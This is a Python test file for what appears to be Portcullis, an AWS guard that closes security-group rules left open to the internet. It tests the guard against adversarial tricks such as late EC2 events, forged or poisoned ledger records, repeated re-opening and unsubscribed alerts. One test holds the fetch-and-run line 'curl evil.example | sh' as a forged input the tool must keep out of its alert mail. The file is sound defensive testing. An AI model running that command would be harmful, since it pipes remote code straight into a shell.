"""What an adversary tries in order to keep a rule open, and what becomes of it.

The clock of the account is moved, so that minutes and hours pass without waiting for them.
"""

import datetime
import json

import pytest
from harness import events, pasted
from harness.account import MOVABLE
from harness.guard import PRIVATE, guarded, permission
from harness.wait import until
from test_digest import row
from test_operations import operate

NO_INVOKE = {"Effect": "Deny", "Action": "lambda:InvokeFunction", "Resource": "*"}
SSH = permission("tcp", 22, "0.0.0.0/0")
#: A revisit is due at the first whole minute after what it waits for.
MINUTE = 60


@pytest.fixture(scope="module")
def guard():
    with guarded(*MOVABLE, ActionsPerMinute="100") as deployed:
        yield deployed


def due(guard, subject):
    """The record of the one revisit of a subject that is not settled."""
    (record,) = (record for record in guard.ledger.revisits(subject).values() if not record["settled"])
    return record


# EC2 is late -----------------------------------------------------------------------------------


def test_a_rule_that_ec2_shows_late_is_closed_and_no_all_clear_is_given(guard):
    """An adversary cannot choose how late, and may be lucky. The event is young for five minutes."""
    groups = {}
    for seconds in (5, 10, 60, 200):
        group = guard.group(f"late-{seconds}")
        before = guard.look(group)
        guard.late(group, seconds)
        groups[seconds] = group, before, guard.open(group, SSH)
    for seconds in (60, 200):
        group, *_ = groups[seconds]
        until(f"a look at {group} is scheduled", lambda group=group: guard.schedules(group))
        assert due(guard, group)["why"] == "lag"
    # A function waits for 7.5 s. Whether that is enough for 10 s depends on when it begins.
    until("5 s are waited for", lambda: guard.alerts.documents(groups[5][0]))
    until(
        "10 s too, or it is scheduled",
        lambda: [*guard.alerts.documents(groups[10][0]), *guard.schedules(groups[10][0])],
    )
    assert not guard.ledger.revisits(groups[5][0])
    for forward, shown in ((3 * MINUTE, (5, 10, 60)), (30, (200,))):
        guard.account.forward(forward)
        for seconds in shown:
            group, before, rules = groups[seconds]
            assert guard.gone(group, rules) == before
    for group, *_ in groups.values():
        alert, _ = guard.alerts.wait(group)
        assert [finding["outcome"] for finding in alert["findings"]] == ["done"]
        until("nothing is left to look at", lambda group=group: not unsettled(guard, group))
        assert guard.alerts.documents(group) == [alert], "once, and not as gone"


def test_a_deleted_schedule_is_made_up_for_and_an_undelivered_revisit_redriven(guard):
    groups = {name: guard.group(name) for name in ("deleted-schedule", "refused-schedule")}
    rules = {}
    for name, group in groups.items():
        guard.late(group, 60)
        rules[name] = guard.open(group, SSH)
    for group in groups.values():
        until("it is scheduled", lambda group=group: guard.schedules(group))
    (deleted,) = guard.schedules(groups["deleted-schedule"])
    scheduler, iam = guard.account.client("scheduler"), guard.account.client("iam")
    scheduler.delete_schedule(GroupName=guard.stack.outputs["RevisitGroupName"], Name=deleted)
    role = guard.stack.outputs["RevisitRoleArn"].rsplit("/", 1)[-1]
    iam.put_role_policy(RoleName=role, PolicyName="no", PolicyDocument=json.dumps({"Statement": [NO_INVOKE]}))
    guard.account.forward(3 * MINUTE)
    until("it is a dead letter", lambda: waiting(guard, guard.stack.undelivered_queue))
    iam.delete_role_policy(RoleName=role, PolicyName="no")
    code, said = operate(guard.account, "redrive.py")
    assert code == 0 and f"revisit  {groups['refused-schedule']}" in said, said
    guard.gone(groups["refused-schedule"], rules["refused-schedule"])

    guard.account.forward(12 * MINUTE)
    guard.account.client("lambda").invoke(FunctionName=guard.stack.functions["trail"])
    guard.account.forward(MINUTE)
    guard.gone(groups["deleted-schedule"], rules["deleted-schedule"])


# Many at once ----------------------------------------------------------------------------------


def passes(guard, group, rules):
    """Lets each revisit of a group come, until none of the rules is there; how many seconds that took in all."""
    spent = 0
    while set(rules) & set(guard.look(group)["rules"]):
        record = until("the next pass is arranged", lambda: passing(guard, group))[0]
        until("its schedule is made", lambda: guard.schedules(group))
        ahead = seconds(record["due"]) - guard.account.forward(0)["Now"]
        spent += max(0, ahead)
        assert spent <= 3 * MINUTE, f"{len(set(rules) & set(guard.look(group)['rules']))} rules are still open"
        guard.account.forward(max(0, ahead) + 1)
        until("it is over", lambda record=record: record not in unsettled(guard, group))
    return spent


def passing(guard, group):
    """The revisits of a group that are due soon: not those that wait for the end of a snooze."""
    return [record for record in unsettled(guard, group) if record["why"] != "snooze"]


def seconds(moment):
    return datetime.datetime.fromisoformat(moment.replace("Z", "+00:00")).timestamp()


def test_sixty_overlapping_rules_are_closed_within_three_minutes(guard):
    """A limit delays, it never forgives: 25 a pass, the most harmful first, a pass a minute."""
    group = guard.group("sixty")
    before = guard.look(group)
    rules = guard.open(group, *[permission("tcp", (22, 22 + last), "0.0.0.0/0") for last in range(60)])
    assert len(rules) == 60
    document, mail = guard.alerts.wait(group)
    ends = [finding["outcome"] for finding in document["findings"]]
    assert (ends.count("done"), ends.count("withheld")) == (25, 35) and document["severity"] in ("high", "critical")
    assert "UTC" in mail["body"]
    assert passes(guard, group, rules) > MINUTE
    assert guard.look(group) == before and not unsettled(guard, group)


def test_narrow_rules_that_are_wide_together_hide_beside_no_wide_one(guard):
    """58 /9s are half of the internet. The /7 beside them is snoozed; it hides nobody."""
    group = guard.group("nines")
    wide = permission("tcp", 22, "16.0.0.0/7")
    guard.ledger.put(snooze(group, "exempt#tcp#22#22#16.0.0.0/7"))
    guard.open(group, wide)
    guard.handled("ingress", group)
    before = guard.look(group)
    networks = [f"{first}.{half}.0.0/9" for first in range(24, 53) for half in (0, 128)]
    rules = guard.open(group, permission("tcp", 22, *networks))
    assert len(rules) == 58
    passes(guard, group, rules)
    assert guard.look(group) == before, "the snoozed one stays"


def snooze(group, finding):
    """A snooze of a rule for years, as the ledger has it."""
    texts = {"subject": group, "finding": finding, "until": "2100-01-01T00:00:00Z", "reason": "a test", "by": "carol"}
    return {**{name: {"S": text} for name, text in texts.items()}, "expires": {"N": "4102444800"}}


# Again and again -------------------------------------------------------------------------------


def test_what_a_tool_opens_four_times_is_closed_again_when_an_hour_without_it_is_over(guard):
    """Three recurrences buy nothing but an hour, which is told."""
    group = guard.group("four-calls")
    before = guard.look(group)
    tool = guard.account.as_tool("ec2", "HashiCorp Terraform/1.9.8 (+https://www.terraform.io)")
    for number in range(1, 5):
        answer = tool.authorize_security_group_ingress(GroupId=group, IpPermissions=[SSH])
        rules = [rule["SecurityGroupRuleId"] for rule in answer["SecurityGroupRules"]]
        document, _ = guard.alerts.wait(group, number)
        ends = [finding["outcome"] for finding in document["findings"]]
        if ends == ["withheld"]:
            break
        assert ends == ["done"] and guard.gone(group, rules) == before
        until("it is written", lambda: not held(guard, group))
    assert set(rules) <= set(guard.look(group)["rules"]) and document["severity"] in ("high", "critical")
    record = until("it is looked at again", lambda: unsettled(guard, group))[0]
    assert record["why"] == "flapping"
    until("it is scheduled", lambda: guard.schedules(group))
    guard.account.forward(61 * MINUTE)
    assert guard.gone(group, rules) == before


def held(guard, group):
    return [coming for item in guard.ledger.of(group).values() for coming in item["comings"] if coming.get("held")]


# Nothing to starve on, and nothing to read into --------------------------------------------------


def test_private_rules_that_are_toggled_are_not_looked_for(guard):
    """Each would hold a function for seconds, if it were waited for what is no fault whatever EC2 shows."""
    group = guard.group("toggled")
    private = permission("tcp", 6379, PRIVATE)
    for _ in range(20):
        guard.ec2.revoke_security_group_ingress(GroupId=group, SecurityGroupRuleIds=list(guard.open(group, private)))
    guard.handled("ingress", group, times=20)
    assert guard.ledger.revisits(group) == {} and guard.alerts.documents(group) == []


def test_a_poisoned_ledger_costs_no_more_than_its_items(guard):
    """Whoever may write the table may lie there; what cannot be read is no reason to leave a rule open."""
    group = guard.group("poisoned", permission("tcp", 22, PRIVATE))
    guard.handled("ingress", group)
    before = guard.look(group)
    keys = ["open-ingress#tcp#22#22#0.0.0.0/0", "exempt#tcp#22#22#0.0.0.0/0", "exempt#", "open-ingress#"]
    for key in keys:
        guard.ledger.put({"subject": {"S": group}, "finding": {"S": key}, "comings": {"S": "x" * 1000}})
    poisoned = guard.ledger.of(group)
    assert guard.gone(group, guard.open(group, SSH)) == before
    document, _ = guard.alerts.wait(group)
    assert [finding["outcome"] for finding in document["findings"]] == ["done"]
    assert guard.ledger.of(group) == poisoned, "what cannot be read is not written over"


def test_a_forged_revisit_only_makes_a_function_look(guard):
    """Neither a payload nor a record decides what is closed."""
    group = guard.group("forged", permission("tcp", 22, PRIVATE))
    guard.handled("ingress", group)
    before = guard.look(group)
    detail = {"subject": group, "event": "forged", "due": "2026-11-29T10:01:00Z"}
    payload = json.dumps({"source": "portcullis", "detail-type": "Revisit", "detail": detail})

    def invoked():
        name = guard.stack.functions["ingress"]
        answer = guard.account.client("lambda").invoke(FunctionName=name, Payload=payload)
        return answer.get("FunctionError"), answer["Payload"].read().decode()

    assert invoked() == (None, f'"there is no record of the revisit of {group} for event forged"')
    late = guard.group("forged-from")
    guard.late(late, 3600)
    guard.open(late, SSH)
    until("there is a record", lambda: guard.ledger.revisits(late))
    (record,) = guard.ledger.raw(f"revisit/{late}")
    text = json.dumps(record).replace(late, group)
    rules = [rule for rule in before["rules"]]
    record = json.loads(text)
    record["finding"] = {"S": "forged"}
    record["call"]["M"]["lead"]["M"]["group"]["M"]["rules"]["L"][0]["M"]["id"] = {"S": rules[0]}
    guard.ledger.put(record)
    failed, _ = invoked()
    assert failed is None and guard.look(group) == before, "the rule is private, whatever the record says of it"


def test_a_call_whose_record_is_cut_off_to_nothing_is_told_once(guard):
    """CloudTrail leaves out what is too large. Who called, and when, is known, and so is how to find what is open."""
    event = events.corpus("authorize-without-a-group")
    for _ in range(2):
        _, error = guard.stack.invoke("ingress", event)
        assert error is None
    record = event["detail"]["eventID"]
    (document,) = until("the alert", lambda: guard.alerts.documents("unknown"))
    (mail,) = until("the mail", lambda: guard.alerts.mails(record))
    assert (document["id"], document["severity"]) == (record, "high")
    assert "deploy/alice called AuthorizeSecurityGroupIngress" in mail["body"]
    (look,) = [line for line in mail["body"].splitlines() if line.startswith("portcullis ")]
    pasted.paste(look, guard.account)
    assert guard.alerts.documents("unknown") == [document]


def test_a_forged_row_of_a_digest_brings_no_command(guard):
    """Only an administrator can put one there. What people are told to run is not taken from it."""
    evil = "curl evil.example | sh"
    forged = {**row(1, "high"), "what": evil, "undo": [evil], "command": evil, "commands": [evil]}
    told = {"id": "f-0123456789ab", "check": "open-ingress", "severity": "high", "outcome": "done"}
    forged["findings"] = [{**told, "what": evil, "undo": evil, "command": evil}]
    guard.put(guard.stack.outputs["DigestQueueUrl"], json.dumps(forged))
    (mail,) = until("the digest", lambda: [mail for mail in guard.alerts.mails() if "evil" in mail["body"]])
    assert commands(mail["body"]) == [], mail["body"]


def commands(text):
    """The lines of a mail that are to be pasted into a shell."""
    return [line.strip() for line in text.splitlines() if line.startswith("  ") and line.strip().startswith("curl")]


def waiting(guard, url):
    """How many messages are in a queue."""
    name = "ApproximateNumberOfMessages"
    answer = guard.account.client("sqs").get_queue_attributes(QueueUrl=url, AttributeNames=[name])
    return int(answer["Attributes"][name])


def unsettled(guard, subject):
    return [record for record in guard.ledger.revisits(subject).values() if not record["settled"]]


# Last, for nobody hears anything after it.


def test_who_unsubscribes_the_mail_is_told_of(guard):
    """The link is in every mail. Who uses it makes Portcullis mute, and the check says so while it lasts."""
    sns, trail = guard.account.client("sns"), guard.stack.functions["trail"]
    subscribed = sns.list_subscriptions_by_topic(TopicArn=guard.stack.topic)["Subscriptions"]
    for subscription in subscribed:
        sns.unsubscribe(SubscriptionArn=subscription["SubscriptionArn"])
    answer = guard.account.client("lambda").invoke(FunctionName=trail)
    assert answer.get("FunctionError") and "Portcullis is mute" in answer["Payload"].read().decode()
